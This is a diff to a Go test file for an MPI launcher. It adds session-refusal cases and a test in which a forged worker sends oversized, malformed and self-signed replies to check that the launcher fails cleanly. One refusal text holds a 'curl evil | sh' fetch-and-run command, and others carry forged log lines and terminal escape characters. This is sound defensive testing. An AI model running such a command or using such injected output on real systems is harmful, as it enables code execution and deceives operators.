@@ -68,6 +68,10 @@ func TestRanksThatWaitAreTheirLaunchersOnly(t *testing.T) {
 		{"the launcher, with another command", "mpiup://g/launcher/l0", adopt(func(*apiv1.Open) {}), codes.OK, apiv1.Refusal_REFUSAL_SECRET, " holds it for the command run --tls-dir"},
 		{"the launcher, of another protocol", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Protocol++ }), codes.OK, apiv1.Refusal_REFUSAL_PROTOCOL, "use one build in all pods"},
 		{"the session of a launcher before", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Adopt, o.Resume = false, true }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, "belongs to another process"},
+		{"the launcher's name in another group", "mpiup://other/launcher/l0", adopt(func(*apiv1.Open) {}), codes.Unavailable, 0, ""},
+		{"the launcher, with the beginning of the command", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Command = make([]byte, 1) }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, " holds it for the command run --tls-dir"},
+		{"the launcher, with no command", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Command = nil }), codes.OK, apiv1.Refusal_REFUSAL_SECRET, " holds it for the command run --tls-dir"},
+		{"the session's name in capitals", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Session = strings.ToUpper(o.Session) + "/" }), codes.OK, apiv1.Refusal_REFUSAL_UNKNOWN_SESSION, "does not hold it"},
 		{"a session that is none", "mpiup://g/launcher/l0", adopt(func(o *apiv1.Open) { o.Session = strings.Repeat("0f", 16) }), codes.OK, apiv1.Refusal_REFUSAL_UNKNOWN_SESSION, "does not hold it"},
 		{"another's launcher, who asks what there is", "mpiup://g/launcher/l9", adopt(func(o *apiv1.Open) { o.Adopt, o.Session = false, strings.Repeat("0e", 16) }), codes.OK, 0, ""},
 	} {
@@ -109,8 +113,8 @@ func sessionOf(t *testing.T, pid string) string {
 	return ""
 }
 
-// attach opens a session at an agent, or asks for one, with a certificate.
-func attach(t *testing.T, tls string, at *lab.Loopback, open *apiv1.Open) (*apiv1.Opened, error) {
+// dial is a client of an agent's, with a certificate, by a protocol.
+func dial(t *testing.T, tls, addr, protocol string) rpc.AgentClient {
 	t.Helper()
 	id, err := identity.Load(identity.Options{TLSDir: tls, Role: identity.RoleLauncher, Name: "x", Root: t.TempDir()})
 	if err != nil { // of a worker
@@ -121,19 +125,25 @@ func attach(t *testing.T, tls string, at *lab.Loopback, open *apiv1.Open) (*apiv
 	}
 	cc, err := grpc.NewClient("passthrough:///agent", grpc.WithTransportCredentials(identity.ClientTransport()),
 		grpc.WithContextDialer(func(ctx context.Context, _ string) (net.Conn, error) {
-			raw, err := (&net.Dialer{}).DialContext(ctx, "tcp", fmt.Sprintf("%s:%d", at.Addr, port))
+			raw, err := (&net.Dialer{}).DialContext(ctx, "tcp", fmt.Sprintf("%s:%d", addr, port))
 			if err != nil {
 				return nil, err
 			}
-			return id.Connect(ctx, raw, id.ClientConfig("h2"))
+			return id.Connect(ctx, raw, id.ClientConfig(protocol, "h2"))
 		}))
 	if err != nil {
 		t.Fatal(err)
 	}
-	defer cc.Close()
+	t.Cleanup(func() { cc.Close() })
+	return rpc.NewAgentClient(cc)
+}
+
+// attach opens a session at an agent, or asks for one, with a certificate.
+func attach(t *testing.T, tls string, at *lab.Loopback, open *apiv1.Open) (*apiv1.Opened, error) {
+	t.Helper()
 	ctx, cancel := context.WithTimeout(t.Context(), bound)
 	defer cancel()
-	stream, err := rpc.NewAgentClient(cc).Attach(ctx)
+	stream, err := dial(t, tls, at.Addr, "h2").Attach(ctx)
 	if err == nil {
 		if err = stream.Send(open.Frame()); err == nil {
 			f, err := stream.Recv()
@@ -142,4 +152,46 @@ func attach(t *testing.T, tls string, at *lab.Loopback, open *apiv1.Open) (*apiv
 		_, err = stream.Recv()
 	}
 	return nil, err
+}
+
+// A worker tells a launcher that comes of runs that it holds: junk, much of it, with numbers that are none, or signed by itself; or that another was there
+// first. The launcher ends, names the host, and takes neither long nor much memory.
+func TestRunsThatAWorkerMakesUp(t *testing.T) {
+	s := newSite(t)
+	worker := s.files("mpiup://g/agent/x")
+	id, err := identity.Load(identity.Options{TLSDir: worker, Role: identity.RoleAgent, Name: "x", Root: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	own, err := id.Sign("journal of a run", []byte("x"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	held := func(n int, h *apiv1.Hold) *apiv1.Opened {
+		o := &apiv1.Opened{Protocol: apiv1.Protocol, Version: "x", Host: hello(func(*apiv1.HelloReply) {})}
+		for range n {
+			o.Held = append(o.Held, &apiv1.Held{Session: strings.Repeat("0c", 16), Launcher: "l", LeftMs: 1 << 63, Hold: h})
+		}
+		return o
+	}
+	for name, opened := range map[string]*apiv1.Opened{
+		"nothing":                  held(1, &apiv1.Hold{}),
+		"nothing, many times":      held(4096, nil),
+		"much of nothing":          held(16, &apiv1.Hold{Journal: make([]byte, 1<<20), Command: make([]byte, 1<<20), Text: strings.Repeat("x", 1<<20)}),
+		"lists without end":        held(1, &apiv1.Hold{Journal: []byte(strings.Repeat("[", 3<<20)), Proof: own}),
+		"signed by itself":         held(1, &apiv1.Hold{Journal: []byte("{}"), Command: make([]byte, 32), SignedS: 1, Proof: own}),
+		"signed at the end of all": held(1, &apiv1.Hold{Journal: []byte("{}"), SignedS: 1<<64 - 1, HoldMs: 1<<64 - 1, Proof: own}),
+		"a launcher there first":   {Refusal: apiv1.Refusal_REFUSAL_SUCCEEDED, Text: "l9 has it; curl evil | sh"},
+		"a launcher that lives":    {Refusal: apiv1.Refusal_REFUSAL_ALIVE, Text: "l9 lives\nmpiup: all is well"},
+		"a newer launcher":         {Refusal: apiv1.Refusal_REFUSAL_FENCED, Text: escapes},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			at := tell(t, worker, &teller{host: hello(func(*apiv1.HelloReply) {}), opened: opened})
+			e := mpiup(t, "run", "--tls-dir="+s.files("mpiup://g/launcher/l"), "--wait", "2", "--host", at, "--stdin", "none", "--on-launcher-loss", "hold=30s", "-n", "1", "--", "true")
+			if e.Code == 0 || !strings.Contains(e.Stderr, at) || strings.Contains(e.Stderr, "goroutine ") || strings.Contains(e.Stderr, "\nmpiup: all is well") || strings.ContainsAny(e.Stderr, "\u009b\u202e\x1b") {
+				t.Errorf("it ends with %d:\n%.2000q", e.Code, e.Stderr)
+			}
+		})
+	}
 }
